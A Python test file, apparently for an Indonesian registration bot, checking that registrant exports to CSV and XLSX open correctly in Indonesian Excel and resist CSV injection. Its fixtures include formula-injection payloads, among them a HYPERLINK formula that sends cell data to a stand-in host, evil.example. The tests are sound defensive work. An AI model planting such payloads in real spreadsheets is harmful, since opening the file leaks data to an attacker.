"""Registrant exports open right in the spreadsheet of an Indonesian office: a CSV Excel set to
Indonesian splits into columns (`;`, UTF-8 with a BOM), headers and statuses in the reader's
language, the NIP kept as text; and they are safe: a name, unit or position that looks like a
formula (`=HYPERLINK(…)`, `+1`, `-2`, `@SUM`, a leading tab or carriage return) stays text in
the XLSX and is prefixed with `'` in the CSV, as OWASP recommends against CSV injection."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.documents import exports
from db.admin import Registrant
from db.models import RegistrationStatus
from messages import Renderer

WITA = ZoneInfo("Asia/Makassar")
RENDERER = Renderer(WITA)
NIP = "198609262015051001"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62812 3456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def _registrant(number: int, name: str, *, unit: str = "BKPSDM", position: str = "Analis") -> Registrant:
    return Registrant(
        registration_id=number,
        event_id=1,
        employee_id=number,
        name=name,
        nip=NIP,
        unit=unit,
        position=position,
        status=RegistrationStatus.REGISTERED,
        waitlist_position=None,
        registered_at=datetime(2026, 12, 1, 1, 0, tzinfo=UTC),
        confirmed_at=None,
        cancelled_at=None,
        attended_at=None,
        rating=None,
    )


def _csv(registrants: list[Registrant], lang: str = "id") -> list[dict[str, str]]:
    data = exports.registrants_csv(registrants, WITA, renderer=RENDERER, lang=lang)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _hostile() -> list[Registrant]:
    return [_registrant(n, name, unit=name, position=name) for n, name in enumerate(FORMULAS, start=1)]


def test_formula_like_names_are_text_in_the_xlsx() -> None:
    data = exports.registrants_xlsx(_hostile(), WITA, sheet="PKP", renderer=RENDERER, lang="id")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row, name in zip(sheet.iter_rows(min_row=2), FORMULAS, strict=True):
        for cell in (row[1], row[3], row[4]):
            assert cell.data_type == "s", (name, cell.data_type)
            assert isinstance(cell.value, str)
            assert cell.value.strip() == name.strip()  # XML reads a stored CR back as LF


def test_formula_like_names_are_prefixed_with_a_quote_in_the_csv() -> None:
    rows = _csv(_hostile())
    for row, name in zip(rows, FORMULAS, strict=True):
        for column in ("Nama", "Unit Kerja", "Jabatan"):
            assert row[column] == "'" + name


@pytest.mark.parametrize("name", ["Maria Goreti Bria", "O'Neil", "Yohanes 2 = 3", "ASN-01"])
def test_ordinary_names_are_left_as_they_are(name: str) -> None:
    (row,) = _csv([_registrant(1, name)])
    assert row["Nama"] == name
    assert row["No"] == "1"


def test_the_csv_is_what_indonesian_excel_opens_in_columns() -> None:
    data = exports.registrants_csv([_registrant(1, "Yosefina Lango")], WITA, renderer=RENDERER, lang="id")
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    header, row = data.decode("utf-8-sig").splitlines()
    assert header.split(";")[:6] == ['"No"', '"Nama"', '"NIP"', '"Unit Kerja"', '"Jabatan"', '"Status"']
    assert f'"{NIP}"' in row.split(";")  # quoted: text, not the number 1,98609E+17
    assert '"terdaftar"' in row.split(";")


def test_headers_and_statuses_follow_the_language() -> None:
    (indonesian,) = _csv([_registrant(1, "Yosefina Lango")])
    assert (indonesian["Status"], indonesian["Waktu Mendaftar"]) == ("terdaftar", "2026-12-01 09:00")
    (english,) = _csv([_registrant(1, "Yosefina Lango")], "en")
    assert (english["Status"], english["Registered At"]) == ("registered", "2026-12-01 09:00")
    assert english["NIP"] == NIP


@pytest.mark.parametrize("lang", ["id", "en"])
def test_the_nip_is_a_text_cell_in_the_xlsx(lang: str) -> None:
    data = exports.registrants_xlsx(
        [_registrant(1, "Yosefina Lango")], WITA, sheet="PKP", renderer=RENDERER, lang=lang
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet.cell(2, exports.NIP_COLUMN + 1)
    assert (cell.value, cell.data_type, cell.number_format) == (NIP, "s", "@")
